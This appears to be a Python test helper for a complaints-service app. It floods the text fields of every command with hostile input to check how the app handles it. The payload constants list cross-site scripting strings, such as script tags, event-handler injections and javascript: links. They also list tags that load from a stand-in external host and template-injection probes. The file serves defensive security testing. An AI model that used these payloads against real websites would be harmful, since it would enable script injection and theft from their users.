"""Script, markup and template words in every text that people give, by every command there is."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from itertools import count
from typing import Any

from complaints_service.domain.commands.registry import COMMANDS, CREATION
from complaints_service.domain.refusals import InvalidData, Refusal
from complaints_service.persistence.database import db
from complaints_service.services.errors import Forbidden, InvalidCommand, NotFound
from support.good_data import Near, NoGoodData, good_data
from support.lives import STATES, Lives
from support.staffed import Staffed

AWAY = "http://away.example"
EVENTS = ("onload", "onerror", "onclick", "onfocus", "onmouseover", "onpointerenter", "ontoggle",
          "onanimationstart", "onbegin", "onpageshow", "onscroll", "onresize")
TAGS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x",
        "audio src=x", "marquee")
SINGLE = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//away.example/x.js>",
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "</textarea><script>alert(1)",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    f"<iframe src={AWAY}></iframe>", "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    f"<link rel=stylesheet href={AWAY}/a.css>", f"<style>@import '{AWAY}/b.css';</style>",
    f"<base href={AWAY}/>", f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<object data={AWAY}/x>", f"<embed src={AWAY}/y>", f"<form action={AWAY}><button>x</form>",
    "<a href=javascript:alert(1)>x</a>", "[x](javascript:alert(1))", "javascript:alert(1)",
    "<math><mi xlink:href='javascript:alert(1)'>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{7*7}}", "{% print(7*7) %}", "${7*7}", "{{config}}", "\\u003cscript\\u003ealert(1)",
)
PAYLOADS = (*SINGLE, *(f"<{tag} {event}=alert(1)>" for tag in TAGS for event in EVENTS))
HOSTILE = "HOSTILE " + " ".join(PAYLOADS)
SEEN = "<script>alert(1)</script>"
MARK = "HOSTILE"
ACTORS = ("officer", "handler", "reviewer", "manager", "approver", "complainant")
TRIES = 4
MOST = 950
"""What the shortest of the long fields holds."""
_turn = count()


def turned(by: int) -> str:
    """All payloads after the mark, beginning with another one each time; a field that holds
    little then still meets many of them."""
    at = by * 7 % len(PAYLOADS)
    return " ".join((MARK, SEEN, *PAYLOADS[at:], *PAYLOADS[:at]))


class HostileNear(Near):
    """Gives everything that may be given, and script for every word."""

    def some(self, chance: float = 0.5) -> bool:
        """Give it."""
        return not self.plain

    def words(self) -> str:
        """As many payloads as fit."""
        return turned(next(_turn))[:MOST]

    def name(self) -> str:
        """A name that is script."""
        return turned(next(_turn))[:150]


def tells_text(value: Any) -> bool:
    """Whether hostile text is anywhere in the data."""
    if isinstance(value, Mapping):
        return any(tells_text(one) for one in value.values())
    if isinstance(value, list | tuple):
        return any(tells_text(one) for one in value)
    return isinstance(value, str) and MARK in value


class HostileLives:
    """Gives every command, in some state in which it is offered, with script for its words."""

    def __init__(self, council: Staffed) -> None:
        """Live in this council."""
        self.council = council
        self.friendly = Lives(council)
        self.given: dict[str, bool] = {}
        """The commands that were carried out, and whether they took text."""
        self.refused: dict[str, str] = {}

    def live(self) -> Iterator[str]:
        """Bring a complaint into each state and do there what was not done yet."""
        yield self._given(None, CREATION, "officer")
        for bring in STATES.values():
            told = -1
            while told < len(self.given):
                told = len(self.given)
                ref = bring(self.friendly)
                while self._one_more(ref):
                    pass
                if len(self.given) > told:
                    yield ref

    def missing(self) -> dict[str, str]:
        """The commands that were never carried out, and why the last try failed."""
        return {name: self.refused.get(name, "never offered") for name in COMMANDS
                if name not in self.given}

    def _one_more(self, ref: str) -> bool:
        walker = self.friendly.walker
        for by in ACTORS:
            listed = walker.listed(self.friendly.complaint(ref), by)
            for command in listed:
                if command not in self.given and self._tried(ref, command, by):
                    return True
        return False

    def _tried(self, ref: str, command: str, by: str) -> bool:
        for _ in range(TRIES):
            try:
                self._given(ref, command, by)
            except (Refusal, InvalidData, InvalidCommand, Forbidden, NotFound, NoGoodData) as no:
                self.refused[command] = f"{type(no).__name__} {no}"
            else:
                return True
        return False

    def _given(self, ref: str | None, command: str, by: str) -> str:
        self.council.later(minutes=1)
        complaint = self.friendly.complaint(ref) if ref else None
        with self.council.app.app_context():
            near = self.friendly.walker.near(db.session(), complaint, by)
        near = HostileNear(**{name: getattr(near, name) for name in vars(near)})
        data = good_data(command, complaint, near)
        answer = self.council.tell(by, command, ref, data)
        self.given[command] = tells_text(data)
        self.friendly.walker.refs.append(answer.ref)
        return answer.ref


